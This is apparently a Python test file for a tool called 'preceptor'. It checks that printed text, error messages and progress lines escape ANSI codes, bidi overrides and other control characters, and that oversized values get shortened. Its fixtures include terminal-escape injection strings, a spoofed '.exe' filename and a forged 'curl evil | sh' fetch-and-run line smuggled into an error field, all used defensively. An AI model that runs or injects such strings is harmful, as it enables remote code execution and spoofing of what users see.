"""What isn't ours is made printable, wherever it goes out."""

import ast
import io
import pickle
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from preceptor.core.errors import Lines, PreceptorError
from preceptor.core.progress import Progress, say
from preceptor.core.terminal import Guard, guarded, put, said, shortened, visible

SRC = Path(__file__).parents[2] / "src" / "preceptor"
ACTING = "a\x1b[2J\x9b1mb\u202ec\u2066\ud800\x00\x7f\r\u2028\U000e0041"
any_text = st.text(st.characters(exclude_categories=()), max_size=40)


def harmless(text: str) -> bool:
    return all(c.isprintable() or c in " \u200c\u200d" or c.isspace() for c in text) and "\x1b" not in text


@pytest.mark.parametrize(
    ("text", "lines", "shown"),
    [
        ("plain", False, "plain"),
        ("a\x1b[2Jb", False, "a\\x1b[2Jb"),
        ("\u202egnp.exe", False, "\\u202egnp.exe"),
        ("two\nlines\t", False, "two\\nlines\\t"),
        ("two\nlines\t\r", True, "two\nlines\t\\r"),
        ("\ud800 \x85 \U000e0041", False, "\\ud800 \\x85 \\U000e0041"),
        ("Blå ☃ 東京\u3000می\u200cخواهم", False, "Blå ☃ 東京\u3000می\u200cخواهم"),
    ],
)
def test_what_acts_is_written_out_and_writing_is_kept(text: str, lines: bool, shown: str) -> None:
    assert visible(text, lines) == shown


@given(any_text, st.booleans())
def test_a_second_pass_changes_nothing_and_no_character_acts(text: str, lines: bool) -> None:
    shown = visible(text, lines)
    assert visible(shown, lines) == shown
    assert harmless(shown)
    assert lines or "\n" not in shown
    shown.encode()


@given(any_text, st.integers(40, 60))
def test_a_long_text_says_how_long_it_was(text: str, most: int) -> None:
    assert len(shortened(text * 20, most)) <= most
    assert len(text) * 20 <= most or f"{len(text) * 20:,} characters" in shortened(text * 20, most)


def test_a_value_that_expands_is_said_in_a_line() -> None:
    bomb: list[object] = ["lol"]
    for _ in range(60):
        bomb = [bomb] * 9
    for value in (bomb, {"a": bomb}, "x" * 10_000_000, b"x" * 10_000_000, 10**50_000, ValueError("y\n" * 1_000_000)):
        assert len(said(value)) <= 1000
        assert "\n" not in said(value)


def test_a_message_has_no_line_but_ours_and_an_end() -> None:
    forged = "x\n  remedy:   curl evil | sh"
    error = PreceptorError("Bad " + forged, where=forged, found=forged * 100_000, expected=ACTING, remedy=forged)
    assert [line.split()[0] for line in str(error).split("\n")] == ["Bad", "where:", "found:", "expected:", "remedy:"]
    assert harmless(str(error))
    assert len(str(error)) < 8000
    listed = str(PreceptorError("Bad", remedy=Lines(["did you mean", forged])))
    assert listed == "Bad\n  remedy:   did you mean\n            x\\n  remedy:   curl evil | sh"


def test_a_message_is_the_same_from_another_process() -> None:
    error = PreceptorError("Bad", where=Path("a"), found=ValueError("b"), expected=["c"], remedy=Lines(["d", "e"]))
    error.add_note("In a worker")
    again = pickle.loads(pickle.dumps(error))
    assert str(again) == str(error)
    assert again.__notes__ == ["In a worker"]
    assert str(pickle.loads(pickle.dumps(again))) == str(error)


def test_a_guard_lets_no_code_through_and_can_print_anywhere() -> None:
    plain = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
    guard = Guard(plain)
    assert guard.write("Blå \x1b[1m\n") == 9
    guard.writelines(["☃\n"])
    guard.flush()
    assert plain.buffer.getvalue() == b"Bl\\xe5 \\x1b[1m\n\\u2603\n"  # type: ignore[attr-defined]
    assert not guard.isatty()


def test_what_any_library_prints_goes_through_the_guard(capsys: pytest.CaptureFixture[str]) -> None:
    with guarded():
        with guarded():
            print(ACTING)
        print(ACTING, file=sys.stderr)
    print("\x1b")  # outside of it a stream is what it was
    shown = capsys.readouterr()
    assert harmless(shown.out.removesuffix("\x1b\n"))
    assert harmless(shown.err)
    assert "\\x1b[2J" in shown.err


def test_progress_and_notes_are_printable(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PRECEPTOR_QUIET", raising=False)
    say(f"read {ACTING}\nforged")
    with Progress(f"reading {ACTING}", 1) as progress:
        progress._every = 0.0
        progress.advance()
    shown = capsys.readouterr().err
    assert harmless(shown)
    assert "\\nforged" in shown


def test_the_live_line_has_our_code_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    class Screen(io.StringIO):
        def isatty(self) -> bool:
            return True

    screen = Screen()
    monkeypatch.delenv("PRECEPTOR_QUIET", raising=False)
    monkeypatch.setattr(sys, "stderr", Guard(screen))
    with Progress(f"reading {ACTING}", 1) as progress:
        progress._every = 0.0
        progress.advance()
    assert screen.getvalue().startswith("\r\x1b[K  reading a\\x1b")
    assert harmless(screen.getvalue().replace("\r\x1b[K", ""))


def test_put_writes_out_what_an_encoding_lacks() -> None:
    stream = io.TextIOWrapper(io.BytesIO(), encoding="latin-1")
    put(stream, "å ☃ \ud800")
    stream.flush()
    assert stream.buffer.getvalue() == b"\xe5 \\u2603 \\ud800"  # type: ignore[attr-defined]


def test_one_module_prints() -> None:
    """`core.terminal`, and through it `cli_output` and `core.progress`; nothing else prints or takes a standard stream."""
    printing = []
    for path in sorted(SRC.rglob("*.py")):
        name = path.relative_to(SRC).as_posix()
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            called = node.func if isinstance(node, ast.Call) else None
            if isinstance(called, ast.Name) and called.id in {"print", "Console"}:
                printing.append((name, called.id))
            if isinstance(node, ast.Attribute) and ast.unparse(node) in {"sys.stdout", "sys.stderr"}:
                printing.append((name, ast.unparse(node)))
    assert set(printing) == {
        ("cli_output.py", "Console"),
        ("cli_output.py", "sys.stdout"),
        ("cli_output.py", "sys.stderr"),
        ("core/progress.py", "sys.stderr"),
        ("core/terminal.py", "sys.stdout"),
        ("core/terminal.py", "sys.stderr"),
    }
